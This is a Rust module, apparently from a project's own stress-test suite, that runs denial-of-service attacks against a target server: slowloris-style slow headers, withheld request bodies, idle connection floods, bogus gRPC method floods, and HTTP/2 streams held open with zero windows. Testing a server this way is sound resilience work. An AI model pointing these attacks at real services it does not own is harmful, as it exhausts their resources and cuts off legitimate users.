//! The attacks. Each continues until it is told to stop, whatever the server does.

use std::time::Duration;

use futures::future::join_all;
use rand::{RngExt as _, distr::Alphanumeric};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::{
    Victim,
    frames::{Caller, Message, connect_from},
    large_sign_in,
};
use crate::bench::wire;

const LOGIN: &str = "/slipway.identity.v1.IdentityService/Login";
const WATCH: &str = "/slipway.notify.v1.ActivityService/Watch";

/// The default window of an HTTP/2 client.
const USUAL_WINDOW: u32 = 65_535;

/// Number of connections of the attacks with calls.
const CONNECTIONS: u8 = 4;

/// Number of streams that nobody reads.
const UNREAD: usize = 3_000;

/// Number of connections of the attacks with slow or large requests.
const MANY: usize = 1_000;

/// Delay before a retry, so that a refusal does not turn the attack into a test of how fast this
/// machine opens connections.
const PAUSE: Duration = Duration::from_millis(20);

/// Calls whose message never arrives, as fast as the server accepts their headers.
pub(super) async fn open_calls(victim: Victim) {
    let attack = |from| calls(&victim, from, |_| (LOGIN.to_owned(), Message::Never));
    join_all((2..2 + CONNECTIONS).map(attack)).await;
}

/// Calls of methods that do not exist.
pub(super) async fn unknown_methods(victim: Victim) {
    let path = |_| {
        let made_up = rand::rng().sample_iter(Alphanumeric).take(4_000);
        let made_up: String = made_up.map(char::from).collect();
        (format!("/x.Y/{made_up}"), Message::None)
    };
    join_all((6..6 + CONNECTIONS).map(|from| calls(&victim, from, path))).await;
}

async fn calls(victim: &Victim, from: u8, next: impl Fn(u64) -> (String, Message<'static>)) {
    while !victim.is_over() {
        let Ok(stream) = connect_from(from, victim.grpc).await else {
            victim.note_refused();
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        let Ok(mut caller) = Caller::connect(stream, USUAL_WINDOW).await else {
            continue;
        };
        let mut count = 0;
        while !victim.is_over() {
            let (path, message) = next(count);
            let written =
                tokio::time::timeout(Duration::from_secs(1), caller.call(&path, None, message));
            match written.await {
                Ok(Ok(())) => victim.note_sent(),
                Ok(Err(_)) => break,
                // The server accepts no more; connect again.
                Err(_) => break,
            }
            count += 1;
            if count % 64 == 0 {
                tokio::task::yield_now().await;
            }
        }
        victim.note_refused();
    }
}

/// Silent connections, from eight addresses.
pub(super) async fn silent(victim: Victim) {
    let hold = |n: usize| {
        let victim = &victim;
        async move {
            let from = u8::try_from(10 + n % 8).unwrap_or(10);
            while !victim.is_over() {
                let Ok(mut stream) = connect_from(from, victim.http).await else {
                    tokio::time::sleep(PAUSE).await;
                    continue;
                };
                victim.note_sent();
                until_closed(victim, &mut stream).await;
                victim.note_refused();
                tokio::time::sleep(PAUSE).await;
            }
        }
    };
    join_all((0..victim.idle).map(hold)).await;
}

/// Requests whose headers arrive byte by byte.
pub(super) async fn slow(victim: Victim) {
    let drip = |_| async {
        while !victim.is_over() {
            let Ok(mut stream) = connect_from(18, victim.http).await else {
                tokio::time::sleep(PAUSE).await;
                continue;
            };
            victim.note_sent();
            for byte in b"GET /tasks/my HTTP/1.1\r\nx-slow: "
                .iter()
                .chain([b'x'; 200].iter())
            {
                if victim.is_over() || stream.write_all(&[*byte]).await.is_err() {
                    break;
                }
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
            victim.note_refused();
        }
    };
    join_all((0..MANY).map(drip)).await;
}

/// Sign-ins with the largest allowed bodies.
pub(super) async fn large_bodies(victim: Victim) {
    let request = large_sign_in();
    let send = |_| async {
        while !victim.is_over() {
            let Ok(mut stream) = connect_from(19, victim.http).await else {
                tokio::time::sleep(PAUSE).await;
                continue;
            };
            // Sends all but the last byte, so that the server waits for it.
            let all_but_one = &request[..request.len() - 1];
            let written =
                tokio::time::timeout(Duration::from_secs(5), stream.write_all(all_but_one));
            let _ = written.await;
            victim.note_sent();
            until_closed(&victim, &mut stream).await;
            victim.note_refused();
            tokio::time::sleep(PAUSE).await;
        }
    };
    join_all((0..MANY).map(send)).await;
}

/// Streams of everything since the beginning, for this many accounts, whose clients read nothing.
pub(super) async fn unread_streams(victim: Victim, accounts: usize) {
    let hold = |n: usize| {
        let victim = &victim;
        async move {
            let tail = wire::tail(&victim.tokens[n % accounts]);
            let request = format!("GET /activity/stream?after=0{tail}");
            while !victim.is_over() {
                let Ok(mut stream) = connect_from(20, victim.http).await else {
                    tokio::time::sleep(PAUSE).await;
                    continue;
                };
                victim.note_sent();
                let _ = stream.write_all(request.as_bytes()).await;
                let mut status = [0; 12];
                if stream.read_exact(&mut status).await.is_err() || &status[9..] != b"200" {
                    victim.note_refused();
                    tokio::time::sleep(Duration::from_secs(1)).await;
                    continue;
                }
                while !victim.is_over() {
                    tokio::time::sleep(Duration::from_millis(500)).await;
                }
            }
        }
    };
    join_all((0..UNREAD).map(hold)).await;
}

/// The same over gRPC: the client grants a window of zero bytes.
pub(super) async fn unread_watches(victim: Victim) {
    let token = &victim.tokens[0];
    while !victim.is_over() {
        let connected = async {
            let stream = connect_from(21, victim.grpc).await?;
            Caller::connect(stream, 0).await
        };
        let Ok(mut caller) = connected.await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        for _ in 0..UNREAD {
            if caller
                .call(WATCH, Some(token), Message::Bytes(&[]))
                .await
                .is_err()
            {
                victim.note_refused();
                break;
            }
            victim.note_sent();
        }
        tokio::select! {
            () = caller.closed() => victim.note_refused(),
            () = over(&victim) => {}
        }
    }
}

/// Returns when the server closes the connection, or the attack is over.
async fn until_closed(victim: &Victim, stream: &mut tokio::net::TcpStream) {
    let mut buffer = [0; 1024];
    let closed = async { while matches!(stream.read(&mut buffer).await, Ok(1..)) {} };
    tokio::select! {
        () = closed => {}
        () = over(victim) => {}
    }
}

async fn over(victim: &Victim) {
    while !victim.is_over() {
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}
